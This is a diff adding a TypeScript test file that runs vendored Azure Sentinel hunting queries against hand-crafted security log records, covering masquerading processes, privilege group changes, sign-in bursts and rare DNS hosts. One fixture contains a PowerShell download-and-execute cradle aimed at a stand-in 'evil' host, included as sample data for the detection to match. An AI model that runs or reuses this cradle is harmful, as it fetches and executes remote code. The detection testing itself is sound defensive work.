@@ -1,0 +1,323 @@
+/**
+ * Real Azure-Sentinel hunting queries and rules (test/fixtures/sentinel-corpus, MIT) run unchanged:
+ * each loads, validates and runs on the local engine, and a set of them answer crafted data as
+ * computed by hand.
+ */
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { CORPUS_DIR, runCorpus } from "../../bench/sentinel-corpus.js";
+import { composeQuery, durationMs } from "../../lib/hunts/catalog.js";
+import { loadSentinelFolder } from "../../lib/hunts/sentinel.js";
+import { tableFromRecords, tableToObjects, type Table } from "../../lib/kql/index.js";
+import { TABLE_SCHEMAS } from "../../lib/schemas/index.js";
+import { LocalSource } from "../../lib/sources/local.js";
+
+const NOW = Date.UTC(2024, 9, 18, 12);
+const MIN = 60_000;
+const iso = (msBeforeNow: number) => new Date(NOW - msBeforeNow).toISOString();
+
+function table(name: string, records: Record<string, unknown>[]): Table {
+  return tableFromRecords(TABLE_SCHEMAS[name], records);
+}
+
+/** Runs one corpus file as its imported hunt would run at NOW, over the given tables. */
+async function runFile(file: string, tables: Record<string, Table>) {
+  const path = join(CORPUS_DIR, file);
+  const { hunts } = await loadSentinelFolder(join(path, ".."));
+  const hunt = hunts.find((h) => h.reference?.endsWith(`(${path})`));
+  if (!hunt) throw new Error(`${file} did not load`);
+  const window = { start: NOW - durationMs(hunt.context ?? hunt.lookback), end: NOW };
+  const { table: result } = await new LocalSource(tables).query({ query: composeQuery(hunt, window), timespan: window, queryId: file });
+  return tableToObjects(result);
+}
+
+describe("the vendored Sentinel corpus", () => {
+  it("at least 40 files, and all but the one needing series_decompose_anomalies load, validate and run", async () => {
+    const outcomes = await runCorpus({}, NOW);
+    expect(outcomes.length).toBeGreaterThanOrEqual(40);
+    const failed = outcomes.filter((o) => o.stage !== "ok");
+    expect(failed.map((f) => f.file)).toEqual(["entra-id/PrivilegedAccountsSigninFailureSpikes.yaml"]);
+  }, 300_000);
+});
+
+describe("corpus answers on crafted data, computed by hand", () => {
+  it("masquerading svchost outside System32 is found, split into domain and host parts (strcat_array, array_slice)", async () => {
+    const rows = await runFile("windows-security-events/masquerading_files.yaml", {
+      SecurityEvent: table("SecurityEvent", [
+        {
+          TimeGenerated: iso(MIN),
+          Computer: "web1.corp.contoso.com",
+          EventID: 4688,
+          NewProcessName: "C:\\Users\\bob\\svchost.exe",
+          SubjectUserSid: "S-1-5-21-1",
+          SubjectUserName: "bob",
+          Account: "CORP\\bob",
+          CommandLine: "svchost",
+        },
+        {
+          TimeGenerated: iso(MIN),
+          Computer: "web1.corp.contoso.com",
+          EventID: 4688,
+          NewProcessName: "C:\\Windows\\System32\\svchost.exe",
+          SubjectUserSid: "S-1-5-21-1",
+          SubjectUserName: "bob",
+          Account: "CORP\\bob",
+          CommandLine: "svchost",
+        },
+      ]),
+    });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ NTDomain: "CORP", Name: "bob", HostName: "web1", DnsDomain: "corp.contoso.com", count_: 1 });
+  });
+
+  it("User Account added to a built-in group: EventID given as strings matches the int column (Kusto converts)", async () => {
+    const rows = await runFile("windows-security-events/UserAccountAddedToPrivlegeGroup.yaml", {
+      SecurityEvent: table("SecurityEvent", [
+        {
+          TimeGenerated: iso(MIN),
+          Computer: "dc1.corp.local",
+          EventID: 4732,
+          AccountType: "User",
+          TargetSid: "S-1-5-32-544",
+          UserPrincipalName: "eve@corp.local",
+        },
+        {
+          TimeGenerated: iso(MIN),
+          Computer: "dc1.corp.local",
+          EventID: 4732,
+          AccountType: "User",
+          TargetSid: "S-1-5-32-555",
+          UserPrincipalName: "ann@corp.local",
+        },
+      ]),
+    });
+    expect(rows.map((r) => [r.Name, r.UPNSuffix, r.HostName, r.DnsDomain])).toEqual([["eve", "corp.local", "dc1", "corp.local"]]);
+  });
+
+  it("VIP failed logons: datatable join, six failures in the window, LogonType compared with strings", async () => {
+    const failures = Array.from({ length: 6 }, (_, i) => ({
+      TimeGenerated: iso((i + 1) * MIN),
+      EventID: 4625,
+      AccountType: "User",
+      LogonType: 3,
+      Account: "Domain\\Bob",
+    }));
+    const rows = await runFile("windows-security-events/VIPAccountFailedLogons.yaml", { SecurityEvent: table("SecurityEvent", failures) });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ Account: "Domain\\Bob", FailedVIPLogons: 6, NTDomain: "Domain", UserName: "Bob" });
+  });
+
+  it("PowerShell downloads via a user-defined function with let inside its body", async () => {
+    const rows = await runFile("windows-security-events/powershell_downloads.yaml", {
+      SecurityEvent: table("SecurityEvent", [
+        {
+          TimeGenerated: iso(MIN),
+          Computer: "pc1.corp",
+          EventID: 4688,
+          SubjectUserName: "bob",
+          NewProcessName: "C:\\x\\powershell.exe",
+          CommandLine: "iex (New-Object Net.WebClient).DownloadString('http://evil')",
+        },
+        {
+          TimeGenerated: iso(MIN),
+          Computer: "pc1.corp",
+          EventID: 4688,
+          SubjectUserName: "bob",
+          NewProcessName: "C:\\x\\powershell.exe",
+          CommandLine: "Get-Date",
+        },
+      ]),
+    });
+    expect(rows.map((r) => [r.FileName, r.AccountName, r.HostName, r.DnsDomain])).toEqual([["powershell.exe", "bob", "pc1", "corp"]]);
+  });
+
+  it("NRT rule: mv-apply twice over TargetResources and modifiedProperties, trim of quotes", async () => {
+    const audit = (group: string) => ({
+      TimeGenerated: iso(30_000),
+      Category: "RoleManagement",
+      OperationName: "Add member to role",
+      InitiatedBy: { user: { userPrincipalName: "admin@contoso.com", id: "u1", ipAddress: "1.2.3.4" } },
+      TargetResources: [
+        {
+          type: "User",
+          userPrincipalName: "eve@contoso.com",
+          modifiedProperties: [{ displayName: "Role.WellKnownObjectName", newValue: `"${group}"` }],
+        },
+      ],
+    });
+    const rows = await runFile("entra-id/NRT_UseraddedtoPrivilgedGroups.yaml", {
+      AuditLogs: table("AuditLogs", [audit("TenantAdmins"), audit("HelpdeskAdmins")]),
+    });
+    expect(rows.map((r) => [r.GroupName, r.TargetName, r.InitiatingIpAddress, r.InitiatedByName])).toEqual([
+      ["TenantAdmins", "eve", "1.2.3.4", "admin"],
+    ]);
+  });
+
+  it("GitHub sign-in burst: table() inside a function, union isfuzzy over a table the data lacks", async () => {
+    const signin = (location: string) => ({
+      TimeGenerated: iso(10 * MIN),
+      AppDisplayName: "GitHub.com",
+      ResultType: "0",
+      UserPrincipalName: "bob@contoso.com",
+      Location: location,
+    });
+    const rows = await runFile("entra-id/Sign-in Burst from Multiple Locations.yaml", {
+      SigninLogs: table("SigninLogs", [signin("US"), signin("FR"), signin("US")]),
+    });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ UserPrincipalName: "bob@contoso.com", CountOfLocations: 2, Name: "bob", UPNSuffix: "contoso.com" });
+  });
+
+  it("a 1-hour rule without a time filter reads only its hour (the local source applies the query period)", async () => {
+    const signin = (ago: number, location: string) => ({
+      TimeGenerated: iso(ago),
+      AppDisplayName: "GitHub.com",
+      ResultType: "0",
+      UserPrincipalName: "bob@contoso.com",
+      Location: location,
+    });
+    const rows = await runFile("entra-id/Sign-in Burst from Multiple Locations.yaml", {
+      SigninLogs: table("SigninLogs", [signin(10 * MIN, "US"), signin(3 * 60 * MIN, "FR")]),
+    });
+    expect(rows).toEqual([]);
+  });
+
+  it("crontab edits: parse extracts user and action, summarized per 10 minutes", async () => {
+    const message = (action: string) => `(root) ${action} (root)`;
+    const rows = await runFile("syslog/SchedTaskEditViaCrontab.yaml", {
+      Syslog: table("Syslog", [
+        {
+          TimeGenerated: iso(5 * MIN),
+          Computer: "lx1",
+          Facility: "cron",
+          ProcessName: "crontab",
+          SeverityLevel: "info",
+          SyslogMessage: message("BEGIN EDIT"),
+        },
+        {
+          TimeGenerated: iso(5 * MIN),
+          Computer: "lx1",
+          Facility: "cron",
+          ProcessName: "crontab",
+          SeverityLevel: "info",
+          SyslogMessage: message("LIST"),
+        },
+      ]),
+    });
+    expect(rows.map((r) => [r.user, r.ListOfActions, r.HostCustomEntity])).toEqual([["root", ["BEGIN EDIT"], "lx1"]]);
+  });
+
+  it("squid abused TLDs: extract with RE2 groups finds the .xyz domain", async () => {
+    const line = "1700000000.000 100 10.1.1.5 TCP_MISS/200 512 GET http://bad.example.xyz/path - HIER_DIRECT/1.2.3.4 text/html";
+    const rows = await runFile("syslog/squid_abused_tlds.yaml", {
+      Syslog: table("Syslog", [{ TimeGenerated: iso(MIN), ProcessName: "squid", SyslogMessage: line }]),
+    });
+    expect(rows.map((r) => [r.TLD, r.URL, r.clientCount])).toEqual([[".xyz", "bad.example.xyz/path", 1]]);
+  });
+
+  it("new account added to admin group: IdentityInfo (published schema) and an empty tactics list load", async () => {
+    const rows = await runFile("ueba/newAccountAddedToAdminGroup.yaml", {
+      IdentityInfo: table("IdentityInfo", [
+        {
+          TimeGenerated: iso(MIN),
+          AccountObjectId: "a1",
+          AccountCreationTime: iso(10 * 24 * 60 * MIN),
+          GroupMembership: ["Administrators"],
+        },
+        { TimeGenerated: iso(MIN), AccountObjectId: "a2", AccountCreationTime: iso(10 * 24 * 60 * MIN), GroupMembership: ["Users"] },
+      ]),
+    });
+    expect(rows.map((r) => r.AccountObjectId)).toEqual(["a1"]);
+  });
+
+  it("Teams deleted by one user more than three times (in with a sub-query)", async () => {
+    const deletes = (user: string, n: number) =>
+      Array.from({ length: n }, () => ({
+        TimeGenerated: iso(MIN),
+        OfficeWorkload: "MicrosoftTeams",
+        Operation: "TeamDeleted",
+        UserId: user,
+      }));
+    const rows = await runFile("microsoft-365/MultipleTeamsDeletes.yaml", {
+      OfficeActivity: table("OfficeActivity", [...deletes("eve@contoso.com", 4), ...deletes("bob@contoso.com", 2)]),
+    });
+    expect(rows).toHaveLength(4);
+    expect(new Set(rows.map((r) => r.AccountName))).toEqual(new Set(["eve"]));
+  });
+
+  it("rare DNS hosts: parse_url host and top-nested over dcount of devices", async () => {
+    const event = (device: string, url: string) => ({ TimeGenerated: iso(MIN), Timestamp: iso(MIN), DeviceId: device, RemoteUrl: url });
+    const rows = await runFile("defender-xdr/Connection to Rare DNS Hosts.yaml", {
+      DeviceNetworkEvents: table("DeviceNetworkEvents", [event("d1", "https://a.b.evil.com/x"), event("d2", "https://a.b.evil.com/y")]),
+    });
+    expect(rows).toEqual([
+      {
+        SecondLevelDomain: "evil.com",
+        ThirdLevelDomain: "b.evil.com",
+        RemoteDomain: "a.b.evil.com",
+        ConnectionCount: 2,
+        DistinctDevices: 2,
+      },
+    ]);
+  });
+
+  it("bulk password resets: three distinct targets in one hour from one actor", async () => {
+    const reset = (target: string) => ({
+      TimeGenerated: iso(20 * MIN),
+      OperationName: "Reset password (by admin)",
+      Result: "success",
+      InitiatedBy: { user: { userPrincipalName: "helpdesk@contoso.com", ipAddress: "5.6.7.8" } },
+      TargetResources: [{ userPrincipalName: target }],
+    });
+    const rows = await runFile("audit-logs/BulkPasswordResetByActor.yaml", {
+      AuditLogs: table("AuditLogs", [reset("a@contoso.com"), reset("b@contoso.com"), reset("c@contoso.com"), reset("c@contoso.com")]),
+    });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({
+      Actor: "helpdesk@contoso.com",
+      ResetCount: 3,
+      AccountName: "helpdesk",
+      AccountUPNSuffix: "contoso.com",
+      ActorIp: "5.6.7.8",
+    });
+  });
+
+  it("guest changed to member: mv-expand over an element path", async () => {
+    const rows = await runFile("audit-logs/GuestUserTypeChangedToMember.yaml", {
+      AuditLogs: table("AuditLogs", [
+        {
+          TimeGenerated: iso(MIN),
+          OperationName: "Update user",
+          Result: "success",
+          InitiatedBy: { user: { userPrincipalName: "admin@contoso.com" } },
+          TargetResources: [
+            {
+              userPrincipalName: "guest_x@contoso.com",
+              id: "t1",
+              modifiedProperties: [{ displayName: "UserType", oldValue: '["Guest"]', newValue: '["Member"]' }],
+            },
+          ],
+        },
+      ]),
+    });
+    expect(rows.map((r) => [r.TargetUpn, r.OldUserType, r.NewUserType, r.Actor])).toEqual([
+      ["guest_x@contoso.com", '["Guest"]', '["Member"]', "admin@contoso.com"],
+    ]);
+  });
+
+  it("uncommon processes: percentiles over a serialized sub-query picks the rarest (nearest rank)", async () => {
+    const proc = (name: string, n: number) =>
+      Array.from({ length: n }, () => ({
+        TimeGenerated: iso(MIN),
+        Computer: "pc",
+        EventID: 4688,
+        SubjectUserName: "bob",
+        NewProcessName: `C:\\x\\${name}`,
+      }));
+    const rows = await runFile("windows-security-events/uncommon_processes.yaml", {
+      SecurityEvent: table("SecurityEvent", [...proc("common.exe", 50), ...proc("rare.exe", 1), ...proc("tool9.exe", 20)]),
+    });
+    // frequencies 50, 1, 20: the 5th percentile by nearest rank is 1, so only rare.exe (digits normalised away elsewhere).
+    expect(rows.map((r) => [r.FileName, r.frequency])).toEqual([["rare.exe", 1]]);
+  });
+});
